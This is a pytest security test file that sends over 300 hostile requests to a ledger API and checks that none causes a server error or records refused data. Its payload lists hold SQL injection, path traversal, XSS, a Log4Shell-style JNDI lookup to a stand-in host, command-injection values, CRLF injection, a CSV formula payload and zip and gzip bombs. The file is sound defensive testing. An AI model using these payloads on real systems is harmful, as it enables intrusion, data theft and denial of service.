"""Three hundred hostile requests, each fixed: none is a server error, and what is refused records nothing."""

import gzip
import json
import struct
from collections.abc import Iterator, Mapping
from io import BytesIO
from pathlib import Path
from types import MappingProxyType
from typing import Any, NamedTuple
from urllib.parse import quote
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from api.http.access import Access
from api.keys.key_check import KeyCheck
from api.keys.key_file import KeyFile
from api.keys.scopes import ADMIN
from api.problems import MEDIA_TYPE
from ledger import Ledger
from projections import Engine
from tests.api.helpers import BASICS, mined
from tests.shared_tables import engine_of

UUID = "01990000-0000-7000-8000-000000000000"
JSON = {"Content-Type": "application/json"}
EVENT = mined("china", "1", "2025-01-31")


class Hostile(NamedTuple):
    """A request as it is sent."""

    method: str
    path: str
    headers: Mapping[str, str] = MappingProxyType({})
    body: bytes | None = None


def texts() -> Iterator[str]:
    """What somebody may write where a name or a number is meant."""
    yield from ("' OR '1'='1", "'; DROP TABLE stored_events; --", '"; SELECT 1; --', "china' --", "china%27%20OR%201=1")
    yield from ("../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "file:///etc/passwd", "C:\\windows\\win.ini", "%00")
    yield from ("<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "|id", "%s%n")
    yield from ("\u202eanihc", "\u0000", "\ufeff", "\ud7ff", "\U0010ffff", "é" * 300, "𝟙𝟚𝟛", "١٢٣", "chi\u0301na", "ẞ")
    yield from ("9" * 400, "-1", "1e999999999", "NaN", "-Infinity", "0x10", "1_000", "+1", " 1", "1.0", "null", "true")
    yield from (
        "a" * 9000,
        ",",
        ",,,,",
        "a," * 500,
        "*",
        "%",
        "_",
        "[",
        "\\",
        "\r\nX-Evil: 1",
        "\t",
        "=cmd|' /C calc'!A0",
    )


def in_queries() -> Iterator[Hostile]:
    names = ("subject", "as_of", "recorded_as_of", "limit", "cursor", "dimension.x")
    for number, text in enumerate(texts()):
        yield Hostile("GET", f"/v1/figures?{names[number % len(names)]}={quote(text, safe='')}")
        yield Hostile("GET", f"/v1/entities?q={quote(text, safe='')}")


def in_paths() -> Iterator[Hostile]:
    places = ("/v1/policies/", "/v1/events/", "/v1/figures/", "/v1/event-types/", "/v1/templates/", "/")
    for number, text in enumerate(texts()):
        yield Hostile("GET", places[number % len(places)] + quote(text, safe="")[:8000])
    yield from (
        Hostile("GET", path) for path in ("//", "/./v1/figures", "/v1/../v1/figures", "/v1//figures", "/v1/%2e")
    )
    yield from (Hostile("GET", f"/static-offline-docs/{'../' * n}etc/passwd") for n in (1, 5, 50))
    yield from (Hostile("GET", f"/static-offline-docs/{'%2e%2e/' * n}etc/passwd") for n in (1, 5))
    yield Hostile("GET", "/v1/relationships/" + "/".join("a" * 500) + "/history")


def dates() -> Iterator[Hostile]:
    odd: tuple[str, ...] = (
        "0000",
        "-0001",
        "10000",
        "9999-12-31",
        "0001-01-01T00:00:00+23:59",
        "9999-12-31T23:59:59-23:59",
        "2024-02-30",
    )
    odd += (
        "2024-W01",
        "2024-13",
        "2024-00",
        "2024-06-30T24:00:00Z",
        "2024-06-30T23:59:60Z",
        "position:",
        "position:-1",
    )
    odd += ("position:99999999999999999999", "position:1.5", "now", "2024-06-30 12:00", "20240630", "2024-6-3")
    for number, text in enumerate(odd):
        name = ("as_of", "recorded_as_of", "effective_at")[number % 3]
        yield Hostile("GET", f"/v1/policies?{name}={text}")
        yield Hostile("GET", f"/v1/diff?from_as_of={text}")


def bodies() -> Iterator[bytes]:
    yield from (
        b"",
        b"[",
        b"{",
        b"[]",
        b"{}",
        b"null",
        b"1",
        b'"x"',
        b"[[]]",
        b"[null]",
        b"[1]",
        b'[{"type":1}]',
        b"\x00",
    )
    yield from (
        b"\xff\xfe[]",
        b"\xef\xbb\xbf[]",
        b'{"a":NaN}',
        b'{"a":1,"a":2}',
        b'{"a":"\\ud800"}',
        b'{"a":"\\u0000"}',
    )
    yield from (b"[" * 100_000, b'{"a":' * 33 + b"1" + b"}" * 33, b"[" + b"1," * 50_000 + b"1]", b"'", b"[1e999999999]")
    yield b'{"type":"ProductionReported","value":' + b"9" * 5000 + b"}"
    wrong: tuple[Any, ...] = (
        None,
        1,
        -1,
        1.5,
        True,
        [],
        {},
        "",
        "x" * 30_000,
        "\u202e",
        "1e400",
        [[]],
        {"a": {"b": []}},
    )
    for number, value in enumerate(wrong):
        for field in tuple(EVENT)[number % 3 :: 3]:
            yield json.dumps({**EVENT, field: value}).encode()
    for field in (
        "position",
        "recorded_at",
        "recorded_by",
        "digest",
        "expected_version",
        "event_id",
        "__class__",
        "origin",
    ):
        yield json.dumps({**EVENT, field: "x"}).encode()
    yield json.dumps({"type": "EventCorrected", "target": UUID, "content": EVENT}).encode()
    yield json.dumps({"type": "EventRetracted", "target": "x", "reason": ""}).encode()
    yield json.dumps([{**EVENT, "event_id": UUID}, {**EVENT, "event_id": UUID, "value": "2"}]).encode()


def appends() -> Iterator[Hostile]:
    for number, body in enumerate(bodies()):
        yield Hostile("POST", "/v1/events?dry_run=true" if number % 4 == 0 else "/v1/events", JSON, body)


def zipped(*members: tuple[str, bytes]) -> bytes:
    sink = BytesIO()
    with ZipFile(sink, "w", ZIP_DEFLATED) as archive:
        for name, raw in members:
            archive.writestr(name, raw)
    return sink.getvalue()


def imports() -> Iterator[Hostile]:
    csv = b"type,entity,kind,name\n"
    parquet = b"PAR1" + b"\x00" * 100 + struct.pack("<I", 2**31) + b"PAR1"
    bomb = gzip.compress(b"0" * 20_000_000)
    files: dict[str, tuple[bytes, ...]] = {
        "text/csv": (
            b"",
            b"\x00",
            csv,
            csv + b'"',
            csv + b"a" * 100_000,
            b"a" * 50_000,
            b"," * 2000 + b"\n",
            csv + b"\xff",
        ),
        "application/x-ndjson": (b"", b"{", b"[]", b"{}\n" * 500, b"\n" * 1000, b'{"type":"x"}\x00', b"null\nnull"),
        "application/vnd.apache.parquet": (b"", b"PAR1", b"PAR1PAR1", parquet, b"PAR1" + b"\xff" * 200 + b"PAR1"),
        "application/zip": (
            b"",
            b"PK\x03\x04",
            zipped(),
            zipped(("../../evil.csv", csv)),
            zipped(("a.csv", csv), ("b.csv", csv)),
            zipped(("a.zip", zipped(("a.csv", csv)))),
            zipped(("a.csv", b"0" * 20_000_000)),
        ),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet": (
            b"",
            zipped(("xl/workbook.xml", b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>")),
            zipped(("[Content_Types].xml", b"<Types/>")),
        ),
        "application/json": (b"{}", b"[]"),
        "multipart/form-data; boundary=x": (b"--x--",),
        "": (b"x",),
    }
    for media_type, bodies_of in files.items():
        for body in bodies_of:
            yield Hostile("POST", "/v1/imports", {"Content-Type": media_type}, body)
    for encoding, body in (
        ("gzip", b"x"),
        ("gzip", bomb),
        ("gzip", gzip.compress(csv)[:-9]),
        ("br", csv),
        ("gzip, gzip", csv),
    ):
        yield Hostile("POST", "/v1/imports", {"Content-Type": "text/csv", "Content-Encoding": encoding}, body)
    for query in (
        "mapping=../../x",
        "mapping=epcis",
        "set.a=b",
        "scope=x",
        "on_missing=withdraw",
        "published_at=x",
        "mode=x",
    ):
        yield Hostile(
            "POST", f"/v1/imports?{query}", {"Content-Type": "text/csv"}, csv + b"EntityRegistered,a,country,A\n"
        )


def odd_headers() -> Iterator[Hostile]:
    for value in ("*/*;q=x", "text/html", "application/json;q=0", "a" * 5000, ",", "/", "*/*, " * 500):
        yield Hostile("GET", "/v1/figures", {"Accept": value})
    for value in (
        "bytes=",
        "bytes=-",
        "bytes=5-1",
        "bytes=0-" + "9" * 30,
        "bytes=-0",
        "lines=0-1",
        "bytes=0-1,2-3",
        "x" * 999,
    ):
        yield Hostile("GET", "/v1/figures.csv", {"Range": value})
    for name in ("If-None-Match", "If-Match", "If-Range"):
        for value in ("*", '"', "W/", '"' * 500, "," * 5000):
            yield Hostile("GET", "/v1/figures.csv", {name: value})
    for value in ("", " ", "a" * 256, "a\x7f", "é"):
        yield Hostile("POST", "/v1/events", {**JSON, "Idempotency-Key": value}, json.dumps(EVENT).encode())
    for value in (
        "text/plain",
        "application/json; charset=utf-16",
        "application/x-www-form-urlencoded",
        "a/b" * 500,
        "json",
    ):
        yield Hostile("POST", "/v1/events", {"Content-Type": value}, b"{}")
    for value in (
        "Bearer",
        "Bearer ",
        "Bearer \x7f",
        "bearer slk_" + "a" * 43,
        "Bearer " + "a" * 60_000,
        "Digest a=b",
        "é",
    ):
        yield Hostile("GET", "/v1/figures", {"Authorization": value})
    for method in ("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get", "X" * 3000):
        yield Hostile(method, "/v1/events")
    for value in ("999999999999999999999", "-1", "x"):
        yield Hostile("POST", "/v1/events", {**JSON, "Content-Length": value}, b"{}")


def questions() -> Iterator[Hostile]:
    for query in (
        "revisions?by=x", "vintages?layout=tall", "vintages?dates=x", "slips?by=,", "trace",
        "trace?entity=china&depth=999",
        "trace?entity=%00", "concentration?metric=mine_production&period=2023&top=0",
        "concentration?metric=x&by=dimension.",
        "sums?by=all", "disputes?status=x", "impact", "impact?recorded_from=position:999", "scorecards?subject=%FF",
        "report", "report?subject=china&format=exe", "diff?resource=x", "diff?resource=policies&subject=china",
        "figures?prefer=,", "figures?resolve=all&sort=-x", "figures?unit=zorkmid", "figures?disputed=maybe",
        "figures?as_of=2024&as_of=2025", "figures?" + "&".join(f"a{n}=1" for n in range(500)), "figures?&&&=&=x",
        "figures?cursor=eyJhIjoxfQ", "figures?cursor=" + "A" * 5000, "figures.xlsx?limit=0",
        "figures.parquet?safe=true",
        "events?after=-1", "events?after=99999999999999999999", "events?figure_id=x", "catalogue?q=" + "%25" * 300,
    ):  # fmt: skip
        yield Hostile("GET", f"/v1/{query}")


HOSTILE = [*in_queries(), *in_paths(), *dates(), *appends(), *imports(), *odd_headers(), *questions()]
MIGHT_RECORD = (200, 201)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClient, Ledger, dict[str, str]]]:
    """A client that sees a server's bugs as answers, the ledger, and the headers of a key."""
    folder: Path = tmp_path_factory.mktemp("hostile")
    keys = KeyFile(folder / "keys.db")
    bearer = {"Authorization": f"Bearer {keys.create('operator', frozenset({ADMIN}))}"}
    with Ledger(folder / "ledger.db") as ledger, engine_of(ledger) as engine:
        ledger.append([*BASICS, EVENT])
        yield client_of(engine, keys), ledger, bearer


def client_of(engine: Engine, keys: KeyFile) -> TestClient:
    app = create_app(engine, access=Access(keys=KeyCheck(keys.path)))
    return TestClient(app, raise_server_exceptions=False)


def send(client: TestClient, hostile: Hostile, more: dict[str, str]) -> Any:
    headers = {name.encode(): value.encode("utf-8") for name, value in {**more, **hostile.headers}.items()}
    return client.request(hostile.method, hostile.path, content=hostile.body, headers=headers, follow_redirects=False)


def test_there_are_three_hundred() -> None:
    assert len(HOSTILE) >= 300
    assert len({str(one) for one in HOSTILE}) == len(HOSTILE)


@pytest.mark.parametrize("part", range(10))
def test_no_hostile_request_is_a_server_error_or_records_what_it_refuses(
    served: tuple[TestClient, Ledger, dict[str, str]], part: int
) -> None:
    client, ledger, bearer = served
    for hostile in HOSTILE[part::10]:
        head = ledger.head()
        answer = send(client, hostile, bearer)
        what = (str(hostile)[:500], answer.status_code, answer.text[:500])
        assert answer.status_code < 500, what
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        if answer.status_code >= 400:
            assert answer.headers["Content-Type"] == MEDIA_TYPE, what
            assert ledger.head() == head, what
            assert "Traceback" not in answer.text
            assert str(Path(__file__).parents[3]) not in answer.text


@pytest.mark.parametrize("part", range(10))
def test_without_a_key_none_comes_to_anything(served: tuple[TestClient, Ledger, dict[str, str]], part: int) -> None:
    client, ledger, _ = served
    head = ledger.head()
    for hostile in HOSTILE[part::10]:
        answer = send(client, hostile, {})
        is_open = hostile.path.startswith("/static-offline-docs/") or hostile.path in ("/", "//")
        assert answer.status_code == 401 or is_open, (str(hostile)[:500], answer.status_code)
    assert ledger.head() == head
